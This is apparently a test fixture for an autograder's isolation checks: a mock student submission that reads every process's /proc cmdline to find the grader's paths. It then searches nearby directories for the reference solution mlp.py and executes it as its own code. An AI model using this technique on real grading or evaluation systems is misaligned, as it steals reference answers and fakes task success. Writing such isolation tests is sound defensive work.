"""Attack (issue 21 §1, §6b): find the grader's own files from where the worker runs, and
grade as the reference. The worker's argv0 (and /proc/self/cmdline) is
``<checkout>/conformance/isolation/worker.py``; every process's command line (/proc/*/cmdline)
names the checkout, the Gradescope root (``--root``, ``--rubric``, ``--mnist-dir``) and the
results. Whatever reference source it can read, it executes as its own; if none, it fails at
import with a message that lists every absolute path it tried (which must reach the student
masked: no grader path in results.json)."""

import glob
import os
import sys

TRIED = []


def _cmdlines():
    lines = [sys.argv]
    for path in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            with open(path, "rb") as handle:
                lines.append([a.decode("utf-8", "replace") for a in handle.read().split(b"\0") if a])
        except OSError:
            pass
    return lines


def _candidates():
    for argv in _cmdlines():
        for arg in argv:
            for part in arg.split("="):
                if not part.startswith("/"):
                    continue
                here = part
                while here not in ("/", ""):
                    yield os.path.join(here, "reference", "mlp.py")
                    yield os.path.join(here, "conformance", "reference", "mlp.py")
                    yield os.path.join(here, "project", "conformance", "reference", "mlp.py")
                    yield os.path.join(here, "source", "project", "conformance", "reference", "mlp.py")
                    yield os.path.join(here, "project", "reference", "mlp.py")
                    yield os.path.join(here, "source", "project", "reference", "mlp.py")
                    here = os.path.dirname(here)


for _path in dict.fromkeys(_candidates()):
    TRIED.append(_path)
    try:
        with open(_path) as _handle:
            _source = _handle.read()
    except OSError:
        continue
    exec(compile(_source, "stolen.py", "exec"))  # forward, backward, ... of the reference
    STOLEN_FROM = _path
    break
else:
    raise ImportError(f"no grader file was readable from worker {sys.argv[0]}; tried: " + ", ".join(TRIED[:40]))
